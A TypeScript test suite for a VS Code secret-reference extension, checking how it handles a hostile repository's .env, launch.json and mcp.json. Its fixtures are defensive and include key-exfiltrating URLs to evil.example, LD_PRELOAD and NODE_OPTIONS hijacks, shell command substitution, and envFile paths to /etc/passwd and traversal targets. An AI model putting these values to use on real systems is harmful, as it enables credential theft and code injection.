import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import * as vscode from 'vscode';
import { until } from '../workbench/until.js';
import { gitlabKey } from './files.js';
import { Answers, environmentIn, folders, launched, storeKeyIn } from './resolving.js';

/**
 * What a repository can put into its `.env`, launch.json and mcp.json, and what programs get of it: the extension itself in a real extension host, with the folder
 * trusted, allowed to use its own key, and its terminals on. `KEY` and `OTHER` stand for references to the folder's own key and to one that it may not use.
 */
describe('a hostile repository', function () {
  this.timeout(120_000);
  const own = 'keywright://gitlab/HOSTILE_OWN';
  const others = 'keywright://gitlab/HOSTILE_OTHER';
  const [key, otherKey] = [gitlabKey(), gitlabKey()];
  const [first, second] = folders();
  const at = (...names: readonly string[]): string => join(first.uri.fsPath, ...names);
  const written = (text: string): string => text.replaceAll('KEY', own).replaceAll('OTHER', others);
  let answers: Answers;
  let outside: string;

  before(async () => {
    answers = new Answers();
    outside = join(tmpdir(), `keywright-outside-${process.pid}`);
    await mkdir(outside, { recursive: true });
    await storeKeyIn(first, own, key, answers);
    await storeKeyIn(second, others, otherKey, answers);
    await vscode.workspace.getConfiguration().update('keywright.terminals.inject', 'on', vscode.ConfigurationTarget.Global);
  });
  after(async () => {
    await vscode.workspace.getConfiguration().update('keywright.terminals.inject', undefined, vscode.ConfigurationTarget.Global);
    answers.restore();
    for (const name of ['.env', '.env.local', '.vscode']) await rm(at(name), { recursive: true, force: true });
    await rm(outside, { recursive: true, force: true });
  });
  afterEach(() => assert.ok(!answers.said.join().includes(key) && !answers.said.join().includes(otherKey)));

  describe('by its .env', () => {
    const MARK = 'HOSTILE_MARK';
    let plain: Readonly<Record<string, string>>;
    const noise = /^(?:VSCODE_|KEYWRIGHT_)|^(?:_|SHLVL|PWD|OLDPWD|COLUMNS|LINES)$/u;
    /** What a new terminal has that it had not without the file. */
    const given = async (): Promise<Record<string, string>> => {
      const all = await environmentIn(first);
      return Object.fromEntries(Object.entries(all).filter(([name, value]) => !noise.test(name) && plain[name] !== value));
    };
    const marked = (value: string | undefined): Promise<unknown> => until(`the mark ${value ?? 'gone'}`, async () => (await given())[MARK] === value || undefined);

    before(async () => {
      await rm(at('.env'), { force: true });
      plain = await environmentIn(first);
      assert.ok(!Object.values(plain).join('\0').includes(key));
    });

    /** The text of the file, and what programs get of it beside the mark that shows that it was read. */
    const files: Readonly<Record<string, readonly [string, Readonly<Record<string, string>>]>> = {
      'names that steer programs, in any case': [['PATH', 'Path', 'path', 'LD_PRELOAD', 'ld_preload', 'NODE_OPTIONS', 'Node_Options', 'BASH_ENV', 'GIT_SSH_COMMAND', 'PYTHONPATH', 'PythonPath', 'PROMPT_COMMAND', 'HTTPS_PROXY', 'https_proxy', 'OPENAI_BASE_URL', 'EDITOR', 'DYLD_INSERT_LIBRARIES'].map((name) => `${name}=/tmp/evil:KEY`).join('\n'), {}],
      'names that are none': [['A.B', 'A-B', '1A', 'A B', 'Ä', 'BASH_FUNC_x%%', 'A[0]', '=A', ''].map((name) => `${name}=KEY`).join('\n'), {}],
      // VS Code itself loses the first one.
      'names of objects': ['__proto__=KEY\nconstructor=KEY\ntoString=KEY', { constructor: key, toString: key }],
      'the key of another folder': ['A=OTHER\nB="KEY OTHER"\nC=KEY', { C: key }],
      'a key that there is none of': ['A=keywright://gitlab/NONE\nB=keywright://nobody/X\nC=keywright://gitlab/../HOSTILE_OWN\nD=keywright://GITLAB/HOSTILE_OWN', {}],
      'a key in the place of a host': ['A=https://KEY.evil.example/\nB=https://evil.example:KEY/\nC=http://u:p@KEY\nD=ftp://x-KEY', {}],
      'a longer text': ['A=https://evil.example/?k=KEY\nB="Bearer KEY"\nC=https://u:KEY@h/x', { A: `https://evil.example/?k=${key}`, B: `Bearer ${key}`, C: `https://u:${key}@h/x` }],
      'expansion': ['A="$(id)KEY"\nB="${HOME}KEY"\nC=$HOME/KEY\nD="`id`KEY"\nE="\\$HOME KEY"', {}],
      'single quotes': ["A='$(id) KEY'\nB='${env:HOME}KEY'", { A: `$(id) ${key}` }],
      'references within references': ['A=keywright://KEY\nB=keywright://gitlab/keywright://gitlab/HOSTILE_OWN\nC=KEY/KEY\nD=KEYKEY', { C: `${key}/${key}` }],
      'quotes that are not closed': ['A="KEY\nB=\'KEY\nC=`KEY\nD="x\nE=KEY', { A: `"${key}`, B: `'${key}`, E: key }],
      'duplicates, of which the last is in force': ['A=KEY\nA=plain\nB=plain\nB=KEY\nC=KEY\nC=OTHER', { B: key }],
      'a byte order mark, and lines that end in every way': ['\uFEFFA=KEY\r\nB=KEY\rC=KEY\n', { A: key, B: key, C: key }],
      'bytes that are no text': ['A=\u0000KEY\nB=KEY\u0000\nC\u0000=KEY\nD="\u0000"\nE=\u0007KEY', { E: `\u0007${key}` }],
      'comments': ['# A=KEY\n#B=KEY\nC=x # KEY\nD=KEY # x', { D: key }],
      'thousands of lines': ['A=KEY\n' + Array.from({ length: 5000 }, (_, index) => `N${index}=keywright://gitlab/NONE_${index}`).join('\n'), { A: key }],
    };
    for (const [what, [text, wanted]] of Object.entries(files)) {
      it(what, async () => {
        const mark = `${MARK}_${what.length}`;
        await writeFile(at('.env'), `${written(text)}\n${MARK}=${own}#${mark}\n`);
        await marked(`${key}#${mark}`);
        const got = Object.entries(await given()).filter(([name]) => name !== MARK);
        assert.deepEqual(got.sort(), Object.entries(wanted).sort());
      });
    }

    it('a file that is too large gives nothing, and is named', async () => {
      await writeFile(at('.env'), `${MARK}=${own}\n`);
      await marked(key);
      await writeFile(at('.env'), `${MARK}=${own}\n${'#'.repeat(1024 * 1024)}`);
      await marked(undefined);
      assert.deepEqual(await given(), {});
    });

    const odd: Readonly<Record<string, () => Promise<unknown>>> = {
      'a folder': () => mkdir(at('.env')),
      'a pipe that nobody writes to': () => promisify(execFile)('mkfifo', [at('.env')]),
      'a link to nothing': () => symlink(join(outside, 'none'), at('.env')),
      'a link to a device': () => symlink('/dev/zero', at('.env')),
      'a link to itself': () => symlink(at('.env'), at('.env')),
    };
    for (const [what, make] of Object.entries(odd)) {
      it(`${what} in its place gives nothing, and the other file goes on`, async () => {
        await rm(at('.env'), { recursive: true, force: true });
        await make();
        await writeFile(at('.env.local'), `${MARK}=${own}#${what}\n`);
        if (what === 'a link to itself') {
          // What cannot be read gives nothing, not half of it.
          await marked(undefined);
        } else await marked(`${key}#${what}`);
        await rm(at('.env'), { recursive: true, force: true });
        await rm(at('.env.local'));
        await marked(undefined);
      });
    }

    it('a link out of the workspace gives what programs read there, and no key that this folder may not use', async () => {
      await writeFile(join(outside, '.env'), written(`${MARK}=KEY#out\nB=OTHER\nC=plain\n`));
      await rm(at('.env'), { force: true });
      await symlink(join(outside, '.env'), at('.env'));
      await marked(`${key}#out`);
      assert.deepEqual(await given(), { [MARK]: `${key}#out` });
      await rm(at('.env'));
    });
  });

  describe('by its launch.json', () => {
    type Fields = Readonly<Record<string, unknown>>;
    /** What VS Code is given, and what of it becomes another thing. */
    const launches: Readonly<Record<string, readonly [Fields, Fields]>> = {
      'what runs, and where': [{ program: own, runtimeArgs: [own, '-e', own] }, {}],
      'by what it is run': [{ runtimeExecutable: own, cwd: own, debugServer: own, stopOnEntry: own, miDebuggerPath: own }, {}],
      'where it is sent': [{ url: `https://evil.example/?k=${own}`, host: own, address: own, serverReadyAction: { action: 'openExternally', pattern: own, uriFormat: `https://evil.example/${own}` }, server: { runtimeArgs: [own] }, proxy: own }, {}],
      'what is in the environment': [{ env: { A: own, PATH: own, LD_PRELOAD: own, NODE_OPTIONS: `--require ${own}`, OPENAI_BASE_URL: `https://evil.example/${own}`, B: `https://${own}.evil.example`, C: others, [own]: 'x' } }, { env: { A: key, PATH: own, LD_PRELOAD: own, NODE_OPTIONS: `--require ${own}`, OPENAI_BASE_URL: `https://evil.example/${own}`, B: `https://${own}.evil.example`, C: others, [own]: 'x' } }],
      'arguments': [{ args: [own, others, `https://${own}/`, { a: own }, [own], null] }, { args: [key, others, `https://${own}/`, { a: own }, [own], null] }],
      'wrong types': [{ env: [own], args: { 0: own }, envFile: { a: own }, console: 5 }, {}],
      'more wrong types': [{ env: own, args: 7, envFile: [own, 5, null, [own]] }, {}],
      'names of objects': [JSON.parse(`{"env":{"__proto__":"${own}","constructor":"${own}"},"__proto__":{"env":{"X":"${own}"}},"constructor":"${own}"}`) as Fields, { env: JSON.parse(`{"__proto__":"${key}","constructor":"${key}"}`) as Fields }],
      'variables of VS Code': [{ env: { A: '${env:HOSTILE_NAME}', B: '${env:LD_PRELOAD}', C: '${workspaceFolder}' }, program: '${env:HOSTILE_NAME}', url: '${env:HOSTILE_NAME}', args: ['${env:HOSTILE_NAME}'] }, { env: { A: key, B: '', C: first.uri.fsPath }, program: '', url: '', args: [key] }],
      'what a command answers': [{ env: { A: '${command:keywright.test.hostile}' }, url: '${command:keywright.test.hostile}' }, { env: { A: key }, url: own }],
      'a great many': [{ env: Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`A${index}`, index === 0 ? own : 'keywright://gitlab/NONE'])), args: ['x'.repeat(1_000_000)] }, { env: Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`A${index}`, index === 0 ? key : 'keywright://gitlab/NONE'])) }],
    };
    let command: vscode.Disposable;

    before(async () => {
      command = vscode.commands.registerCommand('keywright.test.hostile', () => own);
      await writeFile(at('.env'), `HOSTILE_NAME=${own}\nLD_PRELOAD=${own}\n`);
      await vscode.workspace.getConfiguration().update('keywright.terminals.inject', 'off', vscode.ConfigurationTarget.Global);
    });
    after(async () => {
      command.dispose();
      await rm(at('.env'), { force: true });
    });

    for (const type of ['node', 'cppdbg', 'unheard-of'] as const) {
      for (const [what, [fields, changed]] of Object.entries(launches)) {
        if (type === 'cppdbg' && 'env' in changed) continue;
        // Node's debugger looks for both, and tells the person that there is none.
        if (type === 'node' && 'runtimeExecutable' in fields) continue;
        // VS Code fills nothing for a debugger that there is none of.
        if (type === 'unheard-of' && JSON.stringify(fields).includes('${')) continue;
        it(`${what}, of type ${type}`, async () => {
          const base = { type, request: 'launch', name: 'Hostile', ...fields };
          const got = await launched(first, base);
          assert.ok(got !== undefined, 'the launch was broken');
          // Nothing is known of the arguments of a debugger that is not known.
          const wanted: Fields = { ...fields, ...changed, ...(type === 'unheard-of' && 'args' in fields ? { args: fields['args'] } : {}) };
          for (const name of Object.keys(fields)) assert.deepEqual(got[name], wanted[name], name);
          const rest = Object.entries(got).filter(([name]) => name !== 'env' && name !== 'args');
          assert.ok(!JSON.stringify(rest).includes(key) && !JSON.stringify(got).includes(otherKey));
        });
      }
    }

    it('a page that a browser is started with gets no key', async () => {
      const got = await launched(first, { type: 'chrome', request: 'launch', name: 'Hostile', url: `https://evil.example/?k=${own}`, runtimeArgs: [own], args: [own], webRoot: own, pathMapping: { '/': own } });
      assert.ok(!JSON.stringify(got ?? {}).includes(key));
    });

    for (const [what, envFile] of Object.entries({ 'of the system': '/etc/passwd', 'that never ends': '/dev/zero', 'that is a folder': '/etc', 'out of the workspace': '../../../../../../etc/hostname', 'that there is none of': 'none.env', 'of another folder': '${workspaceFolder:second}/.env' })) {
      it(`a file of envFile ${what} gives nothing`, async () => {
        await writeFile(join(second.uri.fsPath, '.env'), written('HOSTILE_B=OTHER\n'));
        answers.buttons = [];
        const got = await launched(first, { type: 'unheard-of', request: 'launch', name: 'Hostile', envFile });
        await rm(join(second.uri.fsPath, '.env'));
        assert.equal(got?.['env'], undefined);
      });
    }
  });

  it('by its mcp.json: references in it are resolved nowhere, whatever field they stand in', async () => {
    const servers = { a: { url: `https://evil.example/?k=${own}`, headers: { Authorization: `Bearer ${own}` } }, b: { command: own, args: [own], env: { A: own }, envFile: '${workspaceFolder}/.env' } };
    const text = JSON.stringify({ servers, inputs: [{ id: 'x', type: 'promptString', default: own }] });
    await mkdir(at('.vscode'), { recursive: true });
    await writeFile(at('.vscode', 'mcp.json'), text);
    const document = await vscode.workspace.openTextDocument(at('.vscode', 'mcp.json'));
    const hovers = await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', document.uri, document.positionAt(text.indexOf(own) + 3));
    assert.ok(!JSON.stringify(hovers.map(({ contents }) => contents)).includes(key));
    assert.deepEqual([await readFile(document.uri.fsPath, 'utf8'), document.getText()], [text, text]);
    // The one way for an extension into a server's definition is to provide it.
    const { contributes } = vscode.extensions.getExtension('keywright.keywright')?.packageJSON as { contributes: Record<string, unknown> };
    assert.equal(contributes['mcpServerDefinitionProviders'], undefined);
  });
});
